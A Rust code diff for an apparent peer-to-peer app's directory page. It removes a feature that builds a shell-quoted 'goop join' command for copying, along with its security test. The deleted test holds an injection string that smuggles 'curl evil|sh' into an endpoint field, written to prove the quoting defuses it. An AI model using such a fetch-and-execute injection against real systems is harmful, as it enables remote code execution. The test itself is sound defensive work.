@@ -18,7 +18,6 @@ use super::refusal;
 use crate::clock::UnixMillis;
 use crate::http::page::{self, Qr};
 use crate::http::{Client, Problem, body};
-use crate::proto::shell::quoted;
 use crate::superhub::App;
 use crate::superhub::directory::api::{may_ask, rfc3339, shown, take_report};
 use crate::superhub::directory::{Entry, MAX_CONTACT, MAX_WORDS, Reason, Report};
@@ -39,7 +38,6 @@ struct Page {
     /// The link for everybody.
     link: String,
     qr: Option<Qr>,
-    places: Vec<Place>,
     door: Option<String>,
     server: Option<String>,
     since: String,
@@ -49,19 +47,6 @@ struct Page {
     max_contact: usize,
     /// Whether the visitor has just reported it.
     reported: bool,
-}
-
-/// Where it is met.
-struct Place {
-    at: String,
-    /// What somebody types to come in there.
-    command: String,
-}
-
-impl Place {
-    fn of(at: &str) -> Self {
-        Self { at: at.to_owned(), command: format!("goop join {}", quoted(at)) }
-    }
 }
 
 /// What a form may have come back with.
@@ -97,7 +82,6 @@ impl Page {
             description: if card.description.is_empty() { format!("{}: {}", card.name, card.rule) } else { card.description.clone() },
             canonical: format!("{origin}/directory/{}", card.id),
             qr: if origin.is_empty() { None } else { Qr::of(&link) },
-            places: listing.endpoints.iter().map(|endpoint| Place::of(endpoint.as_str())).collect(),
             door: door(listing),
             server: listing.rendezvous_id.map(|peer| peer.to_base58()),
             since: day(entry.created),
@@ -156,12 +140,6 @@ mod tests {
         for bad in [&b""[..], b"reason=", b"reason=love", b"words=x", b"reason=spam&reason=spam", b"reason=spam&id=7", b"\xff"] {
             assert!(read(bad).is_err(), "{bad:?}");
         }
-    }
-
-    /// THREATS 23. No endpoint holds such a thing; the line would be harmless if one did.
-    #[test]
-    fn attack_a_listing_puts_no_command_behind_the_button_that_copies() {
-        assert_eq!(Place::of("https://x/;curl evil|sh;'").command, r"goop join 'https://x/;curl evil|sh;'\'''");
     }
 
     proptest! {
